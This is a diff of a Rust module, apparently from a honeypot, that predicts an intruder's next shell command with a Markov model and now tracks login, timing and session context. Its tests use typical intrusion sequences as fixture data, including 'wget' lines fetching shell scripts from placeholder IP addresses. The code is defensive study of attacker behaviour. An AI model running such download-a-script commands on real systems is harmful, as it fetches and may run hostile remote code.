@@ -1,27 +1,28 @@
 //! The session's next-command prediction (Layer 1, [`crate::models::markov`]): the model set
-//! taken when the session started, the session's normalized commands so far, and the guesses
-//! standing for the next command. Each command typed scores the standing guesses (first guess
-//! right, one of the three right, or a miss) as a `mirage.prediction` event and in the
-//! node's metrics, then joins the context and the model guesses the command after it.
+//! taken when the session started, the session's context (its login, last commands, fetched
+//! file names and pauses; [`SessionContext`], bounded) and the guesses standing for the next
+//! command. Each command typed scores the standing guesses (first guess right, one of the
+//! three right, or a miss) as a `mirage.prediction` event and in the node's metrics, then
+//! joins the context and the model guesses the command after it.
 //!
 //! Without a next-command model nothing is kept and nothing is emitted.
 
 use std::sync::Arc;
 
+use chrono::{DateTime, Utc};
+
 use crate::events::{EventKind, PredictedCommand};
 use crate::metrics::Metrics;
 use crate::models::Models;
+use crate::models::context::{Login, SessionContext};
 use crate::models::markov::Prediction;
-use crate::models::normalize::{Normalized, normalize_line};
+use crate::models::normalize::normalize_line;
 
 /// Guesses made for each next command (top-3 accuracy needs three).
 pub const TOP_K: usize = 3;
 /// Most commands scored in one session; later commands are neither scored nor kept, so a
 /// flood of `;` cannot flood the event log.
 pub const MAX_COMMANDS: usize = 10_000;
-/// Most recent commands kept as context. The model never looks further back than its order,
-/// so keeping at least that many gives the same guesses as keeping them all.
-pub const CONTEXT: usize = 64;
 /// Longest normalized command kept or reported, in bytes; longer ones are cut at a character
 /// boundary (no trained command is that long, so the cut never turns a miss into a hit).
 pub const MAX_TOKEN_BYTES: usize = 1024;
@@ -31,8 +32,10 @@ pub const MAX_TOKEN_BYTES: usize = 1024;
 pub(super) struct Predictor {
     /// The model set the session started with (a reload does not change it).
     models: Arc<Models>,
-    /// The session's last commands, normalized, oldest first.
-    context: Vec<Normalized>,
+    /// When the session started: commands are placed in time from it.
+    started: DateTime<Utc>,
+    /// What the model knows of the session so far.
+    context: SessionContext,
     /// The guesses for the next command, once made.
     standing: Option<Vec<Prediction>>,
     /// Commands scored so far.
@@ -40,25 +43,35 @@ pub(super) struct Predictor {
 }
 
 impl Predictor {
-    /// A session that has typed nothing yet, predicting with `models`.
-    pub(super) fn new(models: Arc<Models>) -> Predictor {
+    /// A session that logged in with `login` at `started` and has typed nothing yet,
+    /// predicting with `models`.
+    pub(super) fn new(models: Arc<Models>, login: &Login, started: DateTime<Utc>) -> Predictor {
         Predictor {
             models,
-            context: Vec::new(),
+            started,
+            context: SessionContext::new(login),
             standing: None,
             scored: 0,
         }
     }
 
-    /// Takes one input line: for each command in it, the `mirage.prediction` event scoring the
-    /// guesses made before it (also counted in `metrics`). Empty when no next-command model is
-    /// loaded, the line holds no command, or the session is past [`MAX_COMMANDS`].
-    pub(super) fn observe(&mut self, line: &str, metrics: &Metrics) -> Vec<EventKind> {
+    /// Takes one input line typed at `at`: for each command in it, the `mirage.prediction`
+    /// event scoring the guesses made before it (also counted in `metrics`). Empty when no
+    /// next-command model is loaded, the line holds no command, or the session is past
+    /// [`MAX_COMMANDS`].
+    pub(super) fn observe(
+        &mut self,
+        line: &str,
+        at: DateTime<Utc>,
+        metrics: &Metrics,
+    ) -> Vec<EventKind> {
         let models = Arc::clone(&self.models);
         let Some(markov) = models.markov.as_ref() else {
             return Vec::new();
         };
-        let keep = CONTEXT.max(markov.order);
+        let seconds = (at - self.started)
+            .to_std()
+            .map_or(0.0, |elapsed| elapsed.as_secs_f64());
         let mut events = Vec::new();
         for mut command in normalize_line(line) {
             if command.token.is_empty() || self.scored >= MAX_COMMANDS {
@@ -68,7 +81,7 @@ impl Predictor {
             let guesses = self
                 .standing
                 .take()
-                .unwrap_or_else(|| markov.predict(&self.context, TOP_K));
+                .unwrap_or_else(|| markov.predict_in(&self.context, TOP_K));
             let hit_top1 = guesses.first().is_some_and(|g| g.token == command.token);
             let hit_top3 = guesses.iter().any(|g| g.token == command.token);
             metrics.record_prediction(hit_top1, hit_top3);
@@ -86,12 +99,8 @@ impl Predictor {
                 hit_top3,
                 model: models.version().to_owned(),
             });
-            self.context.push(command);
-            // Trimmed in batches, so a long session moves the window once per `keep` commands.
-            if self.context.len() >= 2 * keep {
-                self.context.drain(..self.context.len() - keep);
-            }
-            self.standing = Some(markov.predict(&self.context, TOP_K));
+            self.context.push(&command, Some(seconds));
+            self.standing = Some(markov.predict_in(&self.context, TOP_K));
         }
         events
     }
@@ -112,6 +121,13 @@ fn truncate(text: &mut String, max: usize) {
 mod tests {
     use super::*;
     use crate::models::markov::Markov;
+    use crate::models::normalize::Normalized;
+
+    impl Predictor {
+        fn observe_now(&mut self, line: &str, metrics: &Metrics) -> Vec<EventKind> {
+            self.observe(line, Utc::now(), metrics)
+        }
+    }
 
     const CHAIN: [&str; 5] = [
         "uname -a",
@@ -120,6 +136,10 @@ mod tests {
         "cd /tmp",
         "wget http://198.51.100.9/x.sh",
     ];
+
+    fn predictor(models: Arc<Models>) -> Predictor {
+        Predictor::new(models, &Login::default(), Utc::now())
+    }
 
     fn models() -> Arc<Models> {
         let chain: Vec<Normalized> = CHAIN.iter().flat_map(|l| normalize_line(l)).collect();
@@ -160,8 +180,8 @@ mod tests {
     #[test]
     fn a_known_chain_is_hit_and_a_novel_command_is_a_miss() {
         let metrics = Metrics::new();
-        let mut p = Predictor::new(models());
-        let first = scored(&p.observe("uname -a; cat /proc/cpuinfo", &metrics));
+        let mut p = predictor(models());
+        let first = scored(&p.observe_now("uname -a; cat /proc/cpuinfo", &metrics));
         assert_eq!(
             first,
             [
@@ -174,14 +194,14 @@ mod tests {
                 ),
             ]
         );
-        assert!(p.observe("   ", &metrics).is_empty());
-        assert!(scored(&p.observe("free -m", &metrics))[0].1);
-        assert!(scored(&p.observe("cd /tmp", &metrics))[0].1);
+        assert!(p.observe_now("   ", &metrics).is_empty());
+        assert!(scored(&p.observe_now("free -m", &metrics))[0].1);
+        assert!(scored(&p.observe_now("cd /tmp", &metrics))[0].1);
         // Another URL, the same normalized command.
-        let wget = scored(&p.observe("wget https://203.0.113.5/bins.sh", &metrics));
+        let wget = scored(&p.observe_now("wget https://203.0.113.5/bins.sh", &metrics));
         assert_eq!(wget[0].0, "wget <URL>");
         assert!(wget[0].1);
-        let novel = scored(&p.observe("nproc --all", &metrics));
+        let novel = scored(&p.observe_now("nproc --all", &metrics));
         assert_eq!(novel[0].0, "nproc --all");
         assert!(!novel[0].1 && !novel[0].2, "{novel:?}");
         let text = metrics.render();
@@ -198,9 +218,9 @@ mod tests {
     #[test]
     fn probabilities_are_rounded_and_sum_to_at_most_one() {
         let metrics = Metrics::new();
-        let mut p = Predictor::new(models());
-        p.observe("uname -a", &metrics);
-        let events = p.observe("ls -la", &metrics);
+        let mut p = predictor(models());
+        p.observe_now("uname -a", &metrics);
+        let events = p.observe_now("ls -la", &metrics);
         let EventKind::Prediction { predicted, .. } = &events[0] else {
             panic!("{events:?}");
         };
@@ -214,9 +234,9 @@ mod tests {
     #[test]
     fn without_a_model_nothing_is_kept_or_emitted() {
         let metrics = Metrics::new();
-        let mut p = Predictor::new(Arc::new(Models::default()));
-        assert!(p.observe("uname -a; w", &metrics).is_empty());
-        assert!(p.context.is_empty());
+        let mut p = predictor(Arc::new(Models::default()));
+        assert!(p.observe_now("uname -a; w", &metrics).is_empty());
+        assert_eq!(p.context.commands(), 0);
         assert!(
             metrics
                 .render()
@@ -227,18 +247,17 @@ mod tests {
     #[test]
     fn context_and_scoring_are_bounded() {
         let metrics = Metrics::new();
-        let mut p = Predictor::new(models());
+        let mut p = predictor(models());
         let line = vec!["free -m"; 500].join(";");
         let mut events = 0;
         for _ in 0..(MAX_COMMANDS / 500 + 2) {
-            events += p.observe(&line, &metrics).len();
-            assert!(p.context.len() < 2 * CONTEXT);
+            events += p.observe_now(&line, &metrics).len();
         }
         assert_eq!(events, MAX_COMMANDS);
-        assert!(p.observe("uname -a", &metrics).is_empty());
-        let mut p = Predictor::new(models());
+        assert!(p.observe_now("uname -a", &metrics).is_empty());
+        let mut p = predictor(models());
         let long = format!("echo {}", "é".repeat(MAX_TOKEN_BYTES));
-        let events = scored(&p.observe(&long, &metrics));
+        let events = scored(&p.observe_now(&long, &metrics));
         assert!(events[0].0.len() <= MAX_TOKEN_BYTES);
         assert!(events[0].0.starts_with("echo é"));
     }
@@ -246,7 +265,7 @@ mod tests {
     #[test]
     fn hostile_lines_do_not_panic() {
         let metrics = Metrics::new();
-        let mut p = Predictor::new(models());
+        let mut p = predictor(models());
         for line in [
             ";;;",
             "'",
@@ -257,7 +276,7 @@ mod tests {
             "`",
             "&&&",
         ] {
-            p.observe(line, &metrics);
+            p.observe_now(line, &metrics);
         }
     }
 }
